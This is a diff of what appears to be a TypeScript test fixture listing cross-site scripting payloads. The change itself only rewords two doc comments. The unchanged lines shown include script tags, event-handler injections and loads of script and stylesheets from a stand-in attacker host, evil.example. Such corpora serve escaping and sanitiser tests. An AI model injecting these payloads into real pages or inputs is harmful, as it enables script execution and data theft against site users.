@@ -1,6 +1,6 @@
 const attack = "alert(1);fetch('https://evil.example/ran')";
 
-/** Texts that are markup, script or an address of elsewhere as soon as somebody forgets that they are texts. */
+/** Texts that become markup, script or a foreign URL if a place does not treat them as text. */
 export const knownPayloads: readonly string[] = [
   `<script>${attack}</script>`,
   `<script src=https://evil.example/x.js></script>`,
@@ -104,7 +104,7 @@ const cores = [
   "<link rel=stylesheet href=//evil.example/x.css>",
 ];
 
-/** The same idea in every combination: who carries it, what sets it off, where it leads, what it breaks out of. */
+/** Combinations of elements, event handlers, URLs and breakouts. */
 export const builtPayloads: readonly string[] = [
   ...elements.flatMap((element) => handlers.map((event) => `<${element} src=x autofocus on${event}=${run}>`)),
   ...elements.map((element) => `<${element}/onerror=${run}//src=x`),
